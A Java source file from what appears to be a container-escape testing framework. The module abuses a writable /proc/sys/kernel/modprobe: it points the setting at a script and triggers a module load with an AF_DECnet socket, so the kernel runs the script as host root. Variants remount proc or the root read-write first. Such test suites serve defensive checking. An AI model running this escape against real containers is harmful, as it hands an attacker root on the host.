package nutshell.escapes;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import nutshell.mounts.MountFlag;

/** Names the program that the kernel starts to load a module, and asks for a module: see kernel.modprobe in proc(5). */
record ProcSysWrite() implements Escape {

    @Override
    public String word() {
        return "proc-sys-write";
    }

    @Override
    public String mistake() {
        return "/proc/sys can be written, and root inside is root outside";
    }

    @Override
    public Defence fix() {
        return Defence.USER_NAMESPACE;
    }

    private static final String SETTING = "sys/kernel/modprobe";
    /** AF_DECnet of socket(2): a family that no kernel has any more. */
    private static final int NO_FAMILY = 12;

    @Override
    public void make(Blueprint blueprint, Stake stake) {
        // A /proc that nobody has closed.
    }

    @Override
    public Optional<String> impossible(Stake stake) {
        return Files.exists(Path.of("/proc", SETTING))
                ? Optional.empty()
                : Optional.of("this kernel loads no modules, so it has no kernel.modprobe");
    }

    @Override
    public void prepare(Stake stake) {
        stake.preparations().willChange(Path.of("/proc", SETTING));
    }

    @Override
    public List<Attack> ways(Scene scene) {
        return List.of(
                attacker -> ask(attacker, "/proc", scene),
                attacker -> {
                    attacker.note("another proc, without anything mounted over it")
                            .mount("proc", "/mnt", "proc", null);
                    ask(attacker, "/mnt", scene);
                },
                attacker -> {
                    attacker.note("the root was only mounted read-only")
                            .mount(null, "/", null, null, MountFlag.MS_REMOUNT, MountFlag.MS_BIND);
                    ask(attacker, "/proc", scene);
                },
                attacker -> {
                    attacker.mount(null, "/proc/sys", null, null, MountFlag.MS_REMOUNT, MountFlag.MS_BIND);
                    attacker.mount(null, "/", null, null, MountFlag.MS_REMOUNT, MountFlag.MS_BIND);
                    ask(attacker, "/proc", scene);
                });
    }

    private static void ask(Attacker attacker, String proc, Scene scene) {
        attacker.note("what the kernel starts to load a module, as root of the host")
                .overwrite(proc + "/" + SETTING, scene.root().resolve("x").toString());
        scene.writeScript(attacker);
        attacker.note("a family of sockets that needs a module")
                .call("socket", List.of("AF_DECnet", "SOCK_STREAM", "0"), NO_FAMILY, 1, 0);
    }

    @Override
    public void afterwards(Scene scene) {
        scene.stake().awaitLeft();
        scene.stake().preparations().restoreSettings();
    }
}
